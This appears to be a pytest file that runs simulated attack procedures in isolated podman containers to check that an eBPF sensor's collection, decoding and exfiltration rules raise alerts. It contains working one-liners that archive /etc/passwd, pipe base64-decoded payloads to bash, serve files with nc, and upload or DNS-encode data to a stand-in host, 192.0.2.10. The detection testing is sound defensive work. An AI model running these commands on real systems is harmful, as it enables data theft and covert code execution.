"""Collection, decoding and exfiltration performed for real in podman containers with the eBPF sensor
(rules of src/stockade/rules/builtin/stockade_40_collection.yaml).

Each procedure runs in a fresh container of the attack image (`--network none`: uploads, copies
and lookups fail to connect, which is fine, the rules read the exec). Modes are mixed: "exec" is
`podman exec <c> <shell> -c script`, "run" makes the script the container's own command (pid 1),
so a procedure's last command is often exec'd by the shell in place and runs as pid 1.
Procedures marked (stdio) need proc.stdin/stdout fields from the sensor."""

from __future__ import annotations

from typing import Any

import pytest

from attack_harness import Procedure

pytestmark = [pytest.mark.root, pytest.mark.containers, pytest.mark.ebpf, pytest.mark.slow]

ARCH_ENC = "Encrypted Archive Created in Container"
ARCH_SENS = "Sensitive Data Archived in Container"
ARCH_TOOL = "Data Archived with Utility in Container"
ARCH_LIB = "Data Archived by Interpreter in Container"
DEC_EXEC = "Decoded Payload Executed in Container"
DEC_PIPE = "Decoded Data Piped to Shell in Container"
DEC_FILE = "Decoded File Executed in Container"
DEC = "Data Decoded in Container"
PIPE_SH = "Shell Reading Commands from Pipe in Container"
SERVER = "Ad-hoc File Server Started in Container"
UPLOAD = "Data Uploaded with Command-Line Tool in Container"
REMOTE = "Data Sent to Remote Host in Container"
ENCODED = "Encoded Data Sent over Network in Container"

PAYLOAD = "#!/bin/sh\nid\nuname -a\n"
#: `id` in base64 and in hex
ID_B64 = "aWQK"
ID_HEX = "69640a"

PROCEDURES = [
    # -- encrypted archives ------------------------------------------------------------------------
    Procedure(
        "zip-password",
        rule=ARCH_ENC,
        script="cd /tmp && echo 'card 4000 1234' > notes.txt && zip -P s3cret notes.zip notes.txt",
        proc="zip",
        shell="bash",
        how="exec",
    ),
    Procedure(
        "openssl-enc-aes",
        rule=ARCH_ENC,
        script="echo collected > /tmp/d && openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in /tmp/d -out /tmp/d.enc",
        proc="openssl",
        shell="sh",
        how="run",
    ),
    # -- sensitive data archived -------------------------------------------------------------------
    Procedure(
        "tar-etc-files",
        rule=ARCH_SENS,
        script="tar -czf /tmp/etc.tgz /etc/passwd /etc/group /etc/hosts",
        proc="tar",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "python-gzip-passwd",
        rule=ARCH_SENS,
        script=(
            "python3 -c \"import gzip; d = open('/etc/passwd', 'rb').read(); "
            "gzip.open('/tmp/pw.gz', 'wb').write(d)\""
        ),
        proc="python3",
        shell="sh",
        how="run",
    ),
    Procedure(
        "zip-root-dir",
        rule=ARCH_SENS,
        script="mkdir -p /root/work && echo x > /root/work/a && zip -r /tmp/r.zip /root/work",
        proc="zip",
        shell="bash",
        how="exec",
    ),
    # -- archiving with a utility ------------------------------------------------------------------
    Procedure(
        "tar-create-old-style",
        rule=ARCH_TOOL,
        script="mkdir -p /tmp/stage && echo x > /tmp/stage/a && tar cf /tmp/stage.tar -C /tmp stage",
        proc="tar",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "bzip2-keep",
        rule=ARCH_TOOL,
        script="echo 'SSN 078-05-1120' > /tmp/victim.txt && bzip2 -k /tmp/victim.txt",
        proc="bzip2",
        shell="bash",
        how="run",
    ),
    Procedure(
        "xz-filter-to-file",  # (stdio)
        rule=ARCH_TOOL,
        script="echo collected > /tmp/c; cat /tmp/c | xz -9 > /tmp/c.xz; ls -l /tmp/c.xz",
        proc="xz",
        shell="sh",
        how="exec",
    ),
    # -- archiving by an interpreter ---------------------------------------------------------------
    Procedure(
        "python-tarfile",
        rule=ARCH_LIB,
        script=(
            "python3 -c \"import tarfile; t = tarfile.open('/tmp/doc.tar', 'w'); "
            "t.add('/usr/share/doc/bash'); t.close()\""
        ),
        proc="python3",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "perl-io-compress",
        rule=ARCH_LIB,
        script='echo data > /tmp/d; perl -MIO::Compress::Gzip=gzip -e \'gzip "/tmp/d" => "/tmp/d.gz"\'',
        proc="perl",
        shell="bash",
        how="run",
    ),
    Procedure(
        "python-script-writes-zip",
        rule=ARCH_LIB,
        script="python3 /tmp/collect.py",
        proc="python3",
        shell="sh",
        how="exec",
        files={
            "/tmp/collect.py": (
                "import zipfile\n"
                "with zipfile.ZipFile('/tmp/out.zip', 'w') as z:\n"
                "    z.writestr('a.txt', 'collected')\n"
            )
        },
    ),
    # -- decoded payload executed ------------------------------------------------------------------
    Procedure(
        "base64-pipe-bash",
        rule=DEC_EXEC,
        script=f"echo {ID_B64} | base64 -d | bash",
        proc="sh",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "python-b64-subprocess",
        rule=DEC_EXEC,
        script=(
            "python3 -c 'import base64, subprocess; "
            f'subprocess.call(base64.b64decode("{ID_B64}").decode(), shell=True)\''
        ),
        proc="python3",
        shell="bash",
        how="run",
    ),
    Procedure(
        "eval-base64",
        rule=DEC_EXEC,
        script=f'eval "$(echo {ID_B64} | base64 --decode)"',
        proc="bash",
        shell="bash",
        how="exec",
    ),
    # -- decoded data piped to a shell (sequence) --------------------------------------------------
    Procedure(
        "base64-then-sh-from-pipe",  # (stdio)
        rule=DEC_PIPE,
        script=f"echo {ID_B64} | base64 -d | (sleep 1; exec sh)",
        proc="sh",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "xxd-then-bash-from-pipe",  # (stdio)
        rule=DEC_PIPE,
        script=f"echo {ID_HEX} > /tmp/e.hex; xxd -r -p /tmp/e.hex | (sleep 1; exec bash)",
        proc="bash",
        shell="bash",
        how="run",
    ),
    # -- decoded file executed (sequence) ----------------------------------------------------------
    Procedure(
        "unzip-password-then-run",
        rule=DEC_FILE,
        script=(
            "cd /tmp && zip -P infected p.zip p.sh && rm p.sh && "
            "unzip -P infected -o /tmp/p.zip -d /tmp/ && bash /tmp/p.sh"
        ),
        proc="bash",
        shell="bash",
        how="exec",
        files={"/tmp/p.sh": PAYLOAD},
    ),
    Procedure(
        "base64-to-file-then-run",  # (stdio)
        rule=DEC_FILE,
        script="cat /tmp/encoded.dat | base64 -d > /tmp/art.sh; chmod +x /tmp/art.sh; /tmp/art.sh",
        proc="art.sh",
        shell="sh",
        how="run",
        files={"/tmp/encoded.dat": "IyEvYmluL3NoCmlkCnVuYW1lIC1hCg==\n"},
    ),
    # -- data decoded ------------------------------------------------------------------------------
    Procedure(
        "base64-decode-file",
        rule=DEC,
        script="echo SGVsbG8gZnJvbSBhIHRlc3QK > /tmp/t.enc && base64 -d /tmp/t.enc",
        proc="base64",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "xxd-revert",
        rule=DEC,
        script="echo 48656c6c6f0a | xxd -r -p",
        proc="xxd",
        shell="sh",
        how="run",
    ),
    Procedure(
        "perl-decode-base64",
        rule=DEC,
        script="perl -le 'use MIME::Base64; print(decode_base64(\"SGVsbG8=\"));'",
        proc="perl",
        shell="bash",
        how="exec",
    ),
    # -- shell reading commands from a pipe ----------------------------------------------------------
    Procedure(
        "echo-pipe-sh",  # (stdio)
        rule=PIPE_SH,
        script="echo id | sh",
        proc="sh",
        shell="bash",
        how="exec",
    ),
    Procedure(
        "printf-pipe-bash-s",  # (stdio)
        rule=PIPE_SH,
        script="printf 'id\\nuname -a\\n' | bash -s",
        proc="bash",
        shell="sh",
        how="run",
    ),
    # -- ad-hoc file servers -----------------------------------------------------------------------
    Procedure(
        "python-http-server-tmp",
        rule=SERVER,
        script="cd /tmp; python3 -m http.server 9090 & PID=$!; sleep 3; kill $PID",
        proc="python3",
        shell="sh",
        how="run",
    ),
    Procedure(
        "python-http-server-root",
        rule=SERVER,
        script="cd /root && timeout 3 python3 -m http.server 8001 || true",
        proc="python3",
        shell="bash",
        how="exec",
    ),
    Procedure(
        "nc-listen-with-file",  # (stdio)
        rule=SERVER,
        script="timeout 3 nc -l 9999 < /etc/passwd || true",
        proc="nc",
        shell="sh",
        how="exec",
    ),
    # -- uploads -----------------------------------------------------------------------------------
    Procedure(
        "curl-form-upload",
        rule=UPLOAD,
        script="curl -s -m 2 -F 'file=@/etc/hostname' -F 'autoDelete=true' http://192.0.2.10/ || true",
        proc="curl",
        shell="bash",
        how="exec",
    ),
    Procedure(
        "wget-post-file",
        rule=UPLOAD,
        script="wget --post-file=/etc/hostname --timeout=2 -t 1 http://192.0.2.10/ || true",
        proc="wget",
        shell="sh",
        how="run",
    ),
    Procedure(
        "curl-upload-file",
        rule=UPLOAD,
        script="curl -s -m 2 -T /etc/hostname ftp://192.0.2.10/ || true",
        proc="curl",
        shell="sh",
        how="exec",
    ),
    # -- data sent to a remote host ----------------------------------------------------------------
    Procedure(
        "nc-redirect-file",
        rule=REMOTE,
        script="nc -w 1 192.0.2.10 4444 < /etc/passwd || true",
        proc="sh",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "tar-pipe-ssh",
        rule=REMOTE,
        script=(
            "tar czf - /tmp | ssh -o BatchMode=yes -o ConnectTimeout=1 u@192.0.2.10 'cat > t.tgz' || true"
        ),
        proc="bash",
        shell="bash",
        how="run",
    ),
    Procedure(
        "scp-out",
        rule=REMOTE,
        script="scp -o BatchMode=yes -o ConnectTimeout=1 /etc/hostname u@192.0.2.10:/tmp/ || true",
        proc="scp",
        shell="sh",
        how="exec",
    ),
    # -- encoded data sent -------------------------------------------------------------------------
    Procedure(
        "base64-then-curl-label",
        rule=ENCODED,
        script="echo -n 111-11-1111 | base64; curl -s -m 1 -XPOST MTExLTExLTExMTE=.example.invalid || true",
        proc="sh",
        shell="sh",
        how="exec",
    ),
    Procedure(
        "curl-hex-label",
        rule=ENCODED,
        script=(
            "curl -s -m 1 http://$(echo 'this is a secret file' | xxd -p | tr -d '\\n').example.invalid/ || true"
        ),
        proc="curl",
        shell="bash",
        how="run",
    ),
]


@pytest.mark.parametrize("p", PROCEDURES, ids=lambda p: p.id)
def test_procedure_raises_its_alert(p: Procedure, attacks: Any) -> None:
    attacks.check(p)
